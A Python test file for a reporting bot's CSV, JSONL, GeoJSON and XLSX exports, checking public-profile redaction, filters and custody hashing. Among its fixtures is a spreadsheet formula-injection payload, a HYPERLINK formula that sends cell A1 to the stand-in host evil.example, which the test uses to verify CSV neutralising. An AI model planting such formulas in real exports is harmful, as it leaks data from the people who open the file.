"""Tabular exports: every format round-trips awkward text, the public profile leaks none of
what it redacts, every filter chooses the right tips, and each export is a custody entry
carrying the SHA-256 of exactly the bytes written."""

from __future__ import annotations

import argparse
import csv
import hashlib
import io
import json
import re
import zipfile
from dataclasses import dataclass
from datetime import UTC, date, datetime, time, timedelta
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from openpyxl.utils.escape import unescape
from sqlalchemy import select
from sqlalchemy.ext.asyncio import AsyncEngine

from bot import custody
from bot.export import filters as export_filters
from bot.export.filters import ExportFilters, FilterError, Format, Profile
from bot.export.formats import XLSX_TRUNCATED, split_list
from bot.export.rows import FIELD_DOCS, FIELD_TYPES, FIELDS, count_tips, iter_tip_rows, redactions
from bot.export.service import ExportResult, export_table
from bot.gazetteer import Gazetteer
from db.engine import SessionFactory, session_factory, transaction
from db.models import CustodyEntry, Media, Reporter, Tip, TipLink, TipNote

T0 = datetime(2024, 3, 1, 9, 0, tzinfo=UTC)

# What the fixtures' reporters and moderators wrote: none of it may reach a public export.
DESCRIPTION_1 = 'Ракета влучила в будинок 🚀🏠\nТроє поранених, сказали "тікайте".\r\nКінець.'
PERPETRATOR_TEXT_1 = "رجال يرتدون زيا أخضر بدون شارات"  # Arabic, right to left
PLACE_TEXT_1 = "ליד בית הספר הישן"  # Hebrew, right to left
DESCRIPTION_2 = '=HYPERLINK("http://evil.example/?q="&A1,"click me")'
PERPETRATOR_TEXT_2 = "+1 battalion"
PLACE_TEXT_2 = "-2 km from the bridge"
ADDITION_2 = "@x see my other message | with a pipe \\ and a backslash"
DESCRIPTION_3 = "\tstarts with a tab"
PERPETRATOR_TEXT_3 = "\rstarts with a carriage return"
QUESTION_1 = "Which street exactly?"
ANSWER_1 = "Вулиця Яблунська, біля аптеки"
ADDITION_1 = "Ще одне фото згодом 📷"
DESCRIPTION_7 = "Неизвестные вывезли детей из интерната.\n\nОдин абзац ещё."
PLACE_TEXT_7 = "за старою фермою, без назви"
DRAFT_DESCRIPTION = "DRAFT-SECRET-never-exported"
MODERATOR_1 = "Moderator Ольга"
MODERATOR_3 = "Mod B (banned him later)"
POINT_1 = (50.551234, 30.212345)  # a shared point near Bucha: exact, never public
BUCHA = (711350, "Буча", "13", 50.54741, 30.20879)
IZIUM = (707292, "Ізюм", "07", 49.20697, 37.27679)
SHA = [hashlib.sha256(str(i).encode()).hexdigest() for i in range(4)]
PSEUDONYMS = ["a" * 63 + "1", "b" * 63 + "2", "c" * 63 + "3"]

FREE_TEXTS = [
    DESCRIPTION_1,
    PERPETRATOR_TEXT_1,
    PLACE_TEXT_1,
    DESCRIPTION_2,
    PERPETRATOR_TEXT_2,
    PLACE_TEXT_2,
    ADDITION_2,
    DESCRIPTION_3,
    PERPETRATOR_TEXT_3,
    QUESTION_1,
    ANSWER_1,
    ADDITION_1,
    DESCRIPTION_7,
    PLACE_TEXT_7,
]


@dataclass
class Fixture:
    ids: dict[str, int]

    def id(self, name: str) -> int:
        return self.ids[name]


def _tip(reference: str, reporter: Reporter, status: str, submitted: int | None, **kw: Any) -> Tip:
    return Tip(
        reference=reference,
        reporter=reporter,
        status=status,
        language=kw.pop("language", "uk"),
        submitted_at=T0 + timedelta(days=submitted) if submitted is not None else None,
        **kw,
    )


async def make_fixture(sessions: SessionFactory) -> Fixture:
    async with transaction(sessions) as session:
        reporters = [Reporter(pseudonym=p, language="uk") for p in PSEUDONYMS]
        session.add_all(reporters)
        r1, r2, r3 = reporters
        t1 = _tip(
            "AAAA-2222",
            r1,
            "verified",
            0,
            category="strike",
            description=DESCRIPTION_1,
            incident_date=date(2024, 2, 28),
            incident_date_precision="day",
            incident_time=time(5, 40),
            location_source="shared_point",
            location_precision="point",
            lat=POINT_1[0],
            lon=POINT_1[1],
            place_text=PLACE_TEXT_1,
            settlement=BUCHA[1],
            settlement_id=BUCHA[0],
            settlement_distance_km=1.37,
            oblast=BUCHA[2],
            perpetrator="other",
            perpetrator_text=PERPETRATOR_TEXT_1,
            contact_allowed=True,
            reviewed_at=T0 + timedelta(days=1, hours=3),
            last_action="verified",
            last_actor_name=MODERATOR_1,
        )
        t2 = _tip(
            "BBBB-3333",
            r2,
            "submitted",
            2,
            category="other",
            description=DESCRIPTION_2,
            incident_date_precision="unknown",
            location_source="none",
            location_precision="none",
            place_text=PLACE_TEXT_2,  # as typed before the reporter chose "don't know"
            perpetrator="unknown",
            perpetrator_text=PERPETRATOR_TEXT_2,
            language="en",
        )
        t3 = _tip(
            "CCCC-4444",
            r3,
            "rejected",
            4,
            category="looting",
            description=DESCRIPTION_3,
            incident_date=date(2023, 5, 1),
            incident_date_precision="month",
            location_source="typed_place",
            location_precision="settlement",
            lat=IZIUM[3],
            lon=IZIUM[4],
            settlement=IZIUM[1],
            settlement_id=IZIUM[0],
            oblast=IZIUM[2],
            perpetrator="russia",
            perpetrator_text=PERPETRATOR_TEXT_3,
            reject_reason="not_enough_info",
            reviewed_at=T0 + timedelta(days=5),
            # The moderator banned the reporter after the verdict: the tip names the ban.
            last_action="reporter_banned",
            last_actor_name="Somebody Else",
        )
        t5 = _tip("EEEE-6666", r1, "draft", None, description=DRAFT_DESCRIPTION)
        t6 = _tip("FFFF-7777", r2, "withdrawn", 6, language="ru")
        t7 = _tip(
            "GGGG-8888",
            r3,
            "verified",
            8,
            category="deportation",
            description=DESCRIPTION_7,
            incident_date_precision="unknown",
            location_source="typed_place",
            location_precision="text",
            place_text=PLACE_TEXT_7,
            perpetrator="unknown",
            perpetrator_text="",
            language="ru",
            reviewed_at=T0 + timedelta(days=9),
            last_action="verified",
            last_actor_name=MODERATOR_1,
        )
        session.add_all([t1, t2, t3, t5, t6, t7])
        await session.flush()
        t4 = _tip(
            "DDDD-5555",
            r2,
            "duplicate",
            5,
            category="strike",
            description="the same strike, other angle",
            location_source="typed_place",
            location_precision="settlement",
            lat=BUCHA[3],
            lon=BUCHA[4],
            settlement=BUCHA[1],
            settlement_id=BUCHA[0],
            oblast=BUCHA[2],
            duplicate_of_id=t1.id,
            reviewed_at=T0 + timedelta(days=6),
            last_action="duplicate",
            last_actor_name=MODERATOR_1,
        )
        session.add(t4)
        await session.flush()
        for i, (tip, status, sha) in enumerate(
            [
                (t1, "stored", SHA[0]),
                (t1, "stored", SHA[1]),
                (t1, "too_large", None),
                (t4, "stored", SHA[0]),
                (t5, "stored", SHA[3]),
            ]
        ):
            session.add(
                Media(
                    tip_id=tip.id,
                    kind="photo",
                    file_id=f"file-{i}",
                    file_unique_id=f"unique-{i}",
                    sha256=sha,
                    status=status,
                    size=100,
                )
            )
        session.add_all(
            [
                TipNote(tip_id=t1.id, kind="question", text=QUESTION_1, moderator_name="M"),
                TipNote(tip_id=t1.id, kind="answer", text=ANSWER_1),
                TipNote(tip_id=t1.id, kind="answer", text=None),  # a photo as the answer
                TipNote(tip_id=t1.id, kind="addition", text=ADDITION_1),
                TipNote(tip_id=t1.id, kind="pending", text="not sent, never exported"),
                TipNote(tip_id=t2.id, kind="addition", text=ADDITION_2),
                TipLink(tip_id=t1.id, other_tip_id=t4.id, kind="same_file"),
                TipLink(tip_id=t4.id, other_tip_id=t1.id, kind="same_file"),
            ]
        )
        await custody.append(
            session,
            actor="moderator:42",
            action="rejected",
            tip_id=t3.id,
            details={"moderator": MODERATOR_3, "reason": "not_enough_info"},
        )
        ids = {"t1": t1.id, "t2": t2.id, "t3": t3.id, "t4": t4.id, "t6": t6.id, "t7": t7.id}
    return Fixture(ids)


@pytest.fixture
async def sessions(engine: AsyncEngine) -> SessionFactory:
    return session_factory(engine)


@pytest.fixture
async def fixture(sessions: SessionFactory) -> Fixture:
    return await make_fixture(sessions)


async def records(
    sessions: SessionFactory,
    profile: Profile = Profile.INVESTIGATOR,
    filters: ExportFilters | None = None,
    batch: int = 1000,
) -> list[dict[str, Any]]:
    return [
        r async for r in iter_tip_rows(sessions, filters or ExportFilters(), profile, batch=batch)
    ]


async def export(
    sessions: SessionFactory,
    fmt: Format,
    profile: Profile = Profile.INVESTIGATOR,
    filters: ExportFilters | None = None,
    **kw: Any,
) -> tuple[bytes, ExportResult]:
    out = io.BytesIO()
    result = await export_table(
        sessions,
        fmt=fmt,
        profile=profile,
        filters=filters or ExportFilters(),
        out=out,
        actor="cli:tester",
        **kw,
    )
    return out.getvalue(), result


ALL_STATUSES = ExportFilters(statuses=export_filters.STATUSES)


# ------------------------------------------------------------------------------ records


async def test_investigator_records_hold_every_field(
    sessions: SessionFactory, fixture: Fixture
) -> None:
    rows = await records(sessions)
    by_ref = {r["reference"]: r for r in rows}
    assert [r["id"] for r in rows] == sorted(r["id"] for r in rows)
    assert set(by_ref) == {
        "AAAA-2222",
        "BBBB-3333",
        "CCCC-4444",
        "DDDD-5555",
        "FFFF-7777",
        "GGGG-8888",
    }
    assert all(list(r) == list(FIELDS[Profile.INVESTIGATOR]) for r in rows)
    t1 = by_ref["AAAA-2222"]
    assert t1["description"] == DESCRIPTION_1
    assert t1["perpetrator_text"] == PERPETRATOR_TEXT_1
    assert t1["place_text"] == PLACE_TEXT_1
    assert (t1["lat"], t1["lon"]) == POINT_1
    assert t1["rome_statute"] == "8(2)(b)(i), (ii), (iv)"
    assert t1["submitted_at"] == "2024-03-01T09:00:00Z"
    assert t1["reviewed_at"] == "2024-03-02T12:00:00Z"
    assert (t1["incident_date"], t1["incident_time"]) == ("2024-02-28", "05:40")
    assert t1["decided_by"] == MODERATOR_1
    assert t1["media_count"] == 2
    assert t1["media_not_stored"] == 1
    assert t1["media_sha256"] == SHA[:2]
    assert t1["duplicate_links"] == ["same_file:DDDD-5555"]
    assert t1["questions"] == [QUESTION_1]
    assert t1["answers"] == [ANSWER_1]
    assert t1["additions"] == [ADDITION_1]
    assert t1["reporter"] == PSEUDONYMS[0]
    assert t1["oblast_name"] == "Kyiv Oblast"
    # Raion, hromada and codifier code come from the gazetteer, where it has them.
    bucha = Gazetteer.load().get(BUCHA[0])
    hromada = getattr(bucha, "hromada", None)
    assert t1["hromada"] == (hromada.name_uk if hromada else None)
    assert t1["katottg"] == getattr(bucha, "katottg", None)
    assert by_ref["BBBB-3333"]["raion"] is None
    assert t1["contact_allowed"] is True
    t3 = by_ref["CCCC-4444"]
    assert t3["decided_by"] == MODERATOR_3, "after a later action, the custody log names them"
    assert t3["reject_reason"] == "not_enough_info"
    t4 = by_ref["DDDD-5555"]
    assert (t4["duplicate_of"], t4["duplicate_of_id"]) == ("AAAA-2222", fixture.id("t1"))
    t6 = by_ref["FFFF-7777"]
    assert t6["status"] == "withdrawn"
    assert t6["description"] is None
    assert t6["media_sha256"] == []
    assert by_ref["BBBB-3333"]["decided_by"] is None
    # Nothing of the draft, nor of anything a Telegram id could be read from.
    assert DRAFT_DESCRIPTION not in json.dumps(rows, ensure_ascii=False)
    assert SHA[3] not in json.dumps(rows)


async def test_pages_give_the_same_records(sessions: SessionFactory, fixture: Fixture) -> None:
    assert await records(sessions, batch=2) == await records(sessions)
    assert await records(sessions, batch=1) == await records(sessions)
    public = ExportFilters(statuses=("verified", "duplicate", "rejected"))
    assert await records(sessions, Profile.PUBLIC, public, batch=1) == await records(
        sessions, Profile.PUBLIC, public
    )


async def test_public_records_are_coarse(sessions: SessionFactory, fixture: Fixture) -> None:
    rows = await records(sessions, Profile.PUBLIC)
    assert [r["id"] for r in rows] == [fixture.id("t1"), fixture.id("t7")], "verified only"
    assert all(list(r) == list(FIELDS[Profile.PUBLIC]) for r in rows)
    t1 = rows[0]
    bucha = Gazetteer.load().get(BUCHA[0])
    assert bucha is not None
    assert (t1["settlement_lat"], t1["settlement_lon"]) == (bucha.lat, bucha.lon)
    assert (t1["settlement_lat"], t1["settlement_lon"]) != POINT_1
    assert t1["submitted_date"] == "2024-03-01"
    assert t1["reviewed_date"] == "2024-03-02"
    assert t1["incident_date"] == "2024-02-28"
    assert t1["media_count"] == 2
    assert rows[1]["settlement_lat"] is None


def test_every_field_is_documented() -> None:
    docs = (Path(__file__).resolve().parents[2] / "docs" / "export.md").read_text()
    for fields in FIELDS.values():
        for field in fields:
            assert FIELD_DOCS[field]
            assert FIELD_TYPES[field]
            assert f"| `{field}` |" in docs, f"docs/export.md: no row for {field}"
    for redaction in redactions(Profile.PUBLIC):
        assert " ".join(redaction.split()) in " ".join(docs.split())
    assert redactions(Profile.INVESTIGATOR) == []
    assert redactions(Profile.PUBLIC)


# ------------------------------------------------------------------------------ formats


def unneutralise(cell: str) -> str:
    """Undo CSV formula neutralising as docs/export.md says: drop a leading apostrophe."""
    return cell[1:] if cell.startswith("'") else cell


def as_cell(value: Any) -> str:
    """What a CSV cell holds for a record's value, once neutralising is undone."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, list):
        return "|".join(v.replace("\\", "\\\\").replace("|", "\\|") for v in value)
    return str(value)


async def test_csv_round_trips(sessions: SessionFactory, fixture: Fixture) -> None:
    data, result = await export(sessions, Format.CSV)
    expected = await records(sessions)
    assert not data.startswith(b"\xef\xbb\xbf")
    table = list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))
    assert table[0] == list(FIELDS[Profile.INVESTIGATOR])
    assert len(table) - 1 == len(expected) == result.rows
    for cells, record in zip(table[1:], expected, strict=True):
        for field, cell in zip(table[0], cells, strict=True):
            value = record[field]
            if isinstance(value, str) and value[:1] in ("=", "+", "-", "@", "\t", "\r", "'"):
                assert cell == "'" + value, field
            assert unneutralise(cell) == as_cell(value), field
            if isinstance(value, list):
                assert split_list(unneutralise(cell)) == value
    t2 = next(c for c in table[1:] if c[1] == "BBBB-3333")
    row = dict(zip(table[0], t2, strict=True))
    assert row["description"] == "'" + DESCRIPTION_2
    assert row["perpetrator_text"] == "'+1 battalion"
    assert row["place_text"] == "'-2 km from the bridge"
    assert row["additions"].startswith("'@x")
    assert split_list(unneutralise(row["additions"])) == [ADDITION_2]
    t3 = next(c for c in table[1:] if c[1] == "CCCC-4444")
    assert dict(zip(table[0], t3, strict=True))["description"] == "'" + DESCRIPTION_3
    assert data.count(b"\r\n") >= len(expected) + 1, "RFC 4180 line ends"


async def test_csv_bom(sessions: SessionFactory, fixture: Fixture) -> None:
    data, _ = await export(sessions, Format.CSV, bom=True)
    assert data.startswith(b"\xef\xbb\xbfid,reference,")
    with pytest.raises(ValueError, match="CSV only"):
        await export(sessions, Format.JSONL, bom=True)


async def test_jsonl_round_trips(sessions: SessionFactory, fixture: Fixture) -> None:
    data, result = await export(sessions, Format.JSONL)
    lines = data.decode("utf-8").split("\n")
    assert lines[-1] == ""
    parsed = [json.loads(line) for line in lines[:-1]]
    assert parsed == await records(sessions)
    assert result.rows == len(parsed)
    assert "🚀".encode() in data, "UTF-8, not \\u escapes"


async def test_geojson_is_rfc7946(sessions: SessionFactory, fixture: Fixture) -> None:
    data, result = await export(sessions, Format.GEOJSON)
    document = json.loads(data)
    assert document["type"] == "FeatureCollection"
    expected = await records(sessions)
    placed = [r for r in expected if r["lat"] is not None]
    assert len(document["features"]) == len(placed) == result.rows == 3
    assert result.skipped == len(expected) - len(placed) == 3
    for feature, record in zip(document["features"], placed, strict=True):
        assert feature["type"] == "Feature"
        assert feature["geometry"]["type"] == "Point"
        lon, lat = feature["geometry"]["coordinates"]
        assert -180 <= lon <= 180
        assert -90 <= lat <= 90
        assert (lon, lat) == (record["lon"], record["lat"]), "longitude first"
        # Ukraine spans longitudes 22-41 and latitudes 44-53: the order cannot be swapped.
        assert 22 <= lon <= 41
        assert 44 <= lat <= 53
        assert feature["properties"] == record


async def test_public_geojson_uses_the_settlement_centre(
    sessions: SessionFactory, fixture: Fixture
) -> None:
    data, result = await export(sessions, Format.GEOJSON, Profile.PUBLIC, ALL_STATUSES)
    document = json.loads(data)
    points = {f["id"]: f["geometry"]["coordinates"] for f in document["features"]}
    gazetteer = Gazetteer.load()
    for tip, settlement in (("t1", BUCHA), ("t3", IZIUM)):
        place = gazetteer.get(settlement[0])
        assert place is not None
        assert points[fixture.id(tip)] == [place.lon, place.lat]
    assert result.rows + result.skipped == 6


def xlsx_rows(data: bytes) -> list[list[Any]]:
    book = openpyxl.load_workbook(io.BytesIO(data), read_only=True)
    rows = [
        [unescape(v) if isinstance(v, str) else v for v in row]
        for row in book["tips"].iter_rows(values_only=True)
    ]
    book.close()
    return rows


async def test_xlsx_opens_and_round_trips(sessions: SessionFactory, fixture: Fixture) -> None:
    data, result = await export(sessions, Format.XLSX)
    expected = await records(sessions)
    rows = xlsx_rows(data)
    assert rows[0] == list(FIELDS[Profile.INVESTIGATOR])
    assert len(rows) - 1 == len(expected) == result.rows
    for cells, record in zip(rows[1:], expected, strict=True):
        for field, cell in zip(rows[0], cells, strict=True):
            value = record[field]
            if value is None or value == []:
                assert cell is None, field
            elif isinstance(value, list):
                assert split_list(cell) == value, field
            else:
                # Text stays text: "=HYPERLINK(...)" is not a formula, needs no apostrophe.
                assert cell == value, field


async def test_xlsx_truncates_only_what_excel_cannot_hold(sessions: SessionFactory) -> None:
    async with transaction(sessions) as session:
        reporter = Reporter(pseudonym="d" * 64, language="en")
        session.add(_tip("HHHH-9999", reporter, "submitted", 0, description="x" * 40_000))
    data, _ = await export(sessions, Format.XLSX)
    cell = xlsx_rows(data)[1][list(FIELDS[Profile.INVESTIGATOR]).index("description")]
    assert len(cell) == 32_767
    assert cell.endswith(XLSX_TRUNCATED)
    jsonl, _ = await export(sessions, Format.JSONL)
    assert json.loads(jsonl)["description"] == "x" * 40_000


def readable_text(fmt: Format, data: bytes) -> str:
    """Everything a reader of the file could see (an XLSX is a ZIP of XML: unpack it)."""
    if fmt != Format.XLSX:
        return data.decode("utf-8")
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        text = "".join(archive.read(name).decode("utf-8") for name in archive.namelist())
    # The workbook's own creation time (docProps/core.xml) is not the tips'.
    return re.sub(r"<dcterms:(created|modified)[^>]*>[^<]*</dcterms:\1>", "", text)


@pytest.mark.parametrize("fmt", list(Format))
async def test_public_profile_leaks_nothing(
    sessions: SessionFactory, fixture: Fixture, fmt: Format
) -> None:
    data, result = await export(sessions, fmt, Profile.PUBLIC, ALL_STATUSES)
    text = readable_text(fmt, data)
    assert result.rows + result.skipped == 6
    forbidden = [
        *FREE_TEXTS,
        *PSEUDONYMS,
        MODERATOR_1,
        MODERATOR_3,
        str(POINT_1[0]),
        str(POINT_1[1]),
        "AAAA-2222",
        "DDDD-5555",
        "1.37",  # the point's distance to the settlement
        "05:40",
        "09:00",
        SHA[0],
        SHA[1],
        DRAFT_DESCRIPTION,
    ]
    for secret in forbidden:
        for piece in (secret, json.dumps(secret)[1:-1], secret.strip()[:12]):
            if len(piece) >= 4:
                assert piece not in text, f"{fmt}: {piece!r} leaked"
    assert "Буча" in text, "the settlement stays"


@pytest.mark.parametrize("fmt", list(Format))
async def test_investigator_profile_has_the_texts(
    sessions: SessionFactory, fixture: Fixture, fmt: Format
) -> None:
    data, _ = await export(sessions, fmt)
    text = readable_text(fmt, data)
    assert PSEUDONYMS[0] in text
    assert DRAFT_DESCRIPTION not in text


# ------------------------------------------------------------------------------ filters


async def refs(sessions: SessionFactory, **kw: Any) -> set[str]:
    profile = kw.pop("profile", Profile.INVESTIGATOR)
    rows = await records(sessions, profile, ExportFilters(**kw))
    return {r.get("reference") or str(r["id"]) for r in rows}


async def test_every_filter_works(sessions: SessionFactory, fixture: Fixture) -> None:
    assert await refs(sessions, statuses=("verified",)) == {"AAAA-2222", "GGGG-8888"}
    assert await refs(sessions, statuses=("rejected", "withdrawn")) == {"CCCC-4444", "FFFF-7777"}
    assert await refs(sessions, verified_only=True) == {"AAAA-2222", "GGGG-8888"}
    assert await refs(sessions, verified_only=True, statuses=("rejected",)) == set()
    assert await refs(sessions, categories=("strike",)) == {"AAAA-2222", "DDDD-5555"}
    assert await refs(sessions, categories=("strike", "looting")) == {
        "AAAA-2222",
        "CCCC-4444",
        "DDDD-5555",
    }
    assert await refs(sessions, oblasts=("07",)) == {"CCCC-4444"}
    assert await refs(sessions, oblasts=("13", "07")) == {"AAAA-2222", "CCCC-4444", "DDDD-5555"}
    since = T0 + timedelta(days=4)
    until = T0 + timedelta(days=6)
    assert await refs(sessions, since=since) == {"CCCC-4444", "DDDD-5555", "FFFF-7777", "GGGG-8888"}
    assert await refs(sessions, until=until) == {"AAAA-2222", "BBBB-3333", "CCCC-4444", "DDDD-5555"}
    assert await refs(sessions, since=since, until=until) == {"CCCC-4444", "DDDD-5555"}
    assert await refs(
        sessions, categories=("strike",), oblasts=("13",), statuses=("duplicate",)
    ) == {"DDDD-5555"}
    public = {str(fixture.id("t1")), str(fixture.id("t7"))}
    assert await refs(sessions, profile=Profile.PUBLIC) == public, "public: verified by default"
    assert await refs(sessions, profile=Profile.PUBLIC, statuses=("rejected",)) == {
        str(fixture.id("t3"))
    }
    for kw in ({}, {"statuses": ("verified",)}, {"oblasts": ("13",)}):
        for profile in Profile:
            counted = await count_tips(sessions, ExportFilters(**kw), profile)
            assert counted == len(await records(sessions, profile, ExportFilters(**kw)))


def parse(*argv: str) -> ExportFilters:
    parser = argparse.ArgumentParser()
    ExportFilters.add_arguments(parser)
    return ExportFilters.from_args(parser.parse_args(list(argv)))


def test_filters_from_the_command_line() -> None:
    filters = parse(
        "--status", "verified,rejected", "--status", "duplicate",
        "--category", "strike", "--oblast", "Kyiv Oblast", "--oblast", "7",
        "--since", "2024-03-01", "--until", "2024-04-01T12:30+03:00", "--verified-only",
    )  # fmt: skip
    assert filters.statuses == ("verified", "rejected", "duplicate")
    assert filters.oblasts == ("13", "07")
    assert filters.since == datetime(2024, 3, 1, tzinfo=UTC)
    assert filters.until == datetime(2024, 4, 1, 9, 30, tzinfo=UTC)
    assert parse(*filters.cli_args()) == filters, "cli_args repeats the same export"
    assert filters.as_details() == {
        "statuses": ["verified", "rejected", "duplicate"],
        "categories": ["strike"],
        "oblasts": ["13", "07"],
        "since": "2024-03-01T00:00:00Z",
        "until": "2024-04-01T09:30:00Z",
        "verified_only": True,
    }
    assert parse() == ExportFilters()
    assert parse("--oblast", "Київська обл.").oblasts == ("13",)


@pytest.mark.parametrize(
    ("argv", "named"),
    [
        (("--status", "nope"), "--status"),
        (("--status", "draft"), "--status"),
        (("--category", "murder"), "--category"),
        (("--oblast", "99"), "--oblast"),
        (("--oblast", "Atlantis"), "--oblast"),
        (("--since", "2024-13-01"), "--since"),
        (("--until", "yesterday"), "--until"),
        (("--since", "2024-03-02", "--until", "2024-03-01"), "--since"),
    ],
)
def test_bad_filters_are_one_line(argv: tuple[str, ...], named: str) -> None:
    with pytest.raises(FilterError) as caught:
        parse(*argv)
    message = str(caught.value)
    assert named in message
    assert "\n" not in message


def test_filters_made_in_code_are_checked_too() -> None:
    with pytest.raises(FilterError):
        ExportFilters(statuses=("Verified",))
    with pytest.raises(FilterError):
        ExportFilters(since=datetime(2024, 1, 1))  # naive
    assert ExportFilters().for_profile(Profile.PUBLIC).statuses == ("verified",)
    assert ExportFilters(statuses=("rejected",)).for_profile(Profile.PUBLIC).statuses == (
        "rejected",
    )


# ------------------------------------------------------------------------------ custody


@pytest.mark.parametrize(
    ("fmt", "profile"), [(Format.CSV, Profile.PUBLIC), (Format.XLSX, Profile.INVESTIGATOR)]
)
async def test_each_export_is_a_custody_entry(
    sessions: SessionFactory, fixture: Fixture, fmt: Format, profile: Profile
) -> None:
    seen: list[tuple[int, int]] = []
    filters = ExportFilters(categories=("strike", "deportation"))
    data, result = await export(
        sessions, fmt, profile, filters, progress=lambda done, total: seen.append((done, total))
    )
    assert result.sha256 == hashlib.sha256(data).hexdigest()
    assert result.bytes == len(data)
    async with sessions() as session:
        entries = (
            (await session.execute(select(CustodyEntry).where(CustodyEntry.action == "exported")))
            .scalars()
            .all()
        )
        verification = await custody.verify(session)
    assert verification.ok
    assert len(entries) == 1
    entry = entries[0]
    assert entry.seq == result.custody_seq
    assert entry.actor == "cli:tester"
    assert entry.tip_id is None
    applied = filters.for_profile(profile)
    assert entry.details == {
        "export_id": result.export_id,
        "format": fmt.value,
        "profile": profile.value,
        "filters": applied.as_details(),
        "rows": result.rows,
        "skipped": 0,
        "sha256": hashlib.sha256(data).hexdigest(),
        "bytes": len(data),
        "redactions": redactions(profile),
    }
    assert result.rows == (2 if profile == Profile.PUBLIC else 3)
    assert seen[-1] == (result.rows, result.rows)


async def test_record_false_appends_nothing(sessions: SessionFactory, fixture: Fixture) -> None:
    async with sessions() as session:
        before = await custody.head(session)
    _, result = await export(sessions, Format.JSONL, record=False)
    async with sessions() as session:
        assert await custody.head(session) == before
    assert result.custody_seq is None


async def test_an_empty_export_is_still_recorded(sessions: SessionFactory) -> None:
    data, result = await export(sessions, Format.GEOJSON)
    assert json.loads(data) == {"type": "FeatureCollection", "features": []}
    assert result.rows == 0
    assert result.custody_seq is not None


class FailingOutput(io.BytesIO):
    """An output that fails (a full disk) once it holds more than ``limit`` bytes."""

    def __init__(self, limit: int) -> None:
        super().__init__()
        self.limit = limit

    def write(self, data: Any) -> int:
        if self.tell() + len(data) > self.limit:
            raise OSError(28, "No space left on device")
        return super().write(data)


@pytest.mark.parametrize("fmt", [Format.JSONL, Format.XLSX])
async def test_a_failed_export_records_nothing(
    sessions: SessionFactory, fixture: Fixture, fmt: Format, monkeypatch: pytest.MonkeyPatch
) -> None:
    # Text formats write every record at once: the output fails in the middle of the tips.
    monkeypatch.setattr("bot.export.formats._FLUSH_AT", 1)
    async with sessions() as session:
        before = await custody.head(session)
    with pytest.raises(OSError, match="No space"):
        await export_table(
            sessions,
            fmt=fmt,
            profile=Profile.INVESTIGATOR,
            filters=ExportFilters(),
            out=FailingOutput(1500),
            actor="cli:tester",
            batch=1,  # pages are being read ahead when the output fails
        )
    async with sessions() as session:
        assert await custody.head(session) == before
    # The database is free again: a new export runs.
    _, result = await export(sessions, Format.CSV)
    assert result.rows == 6
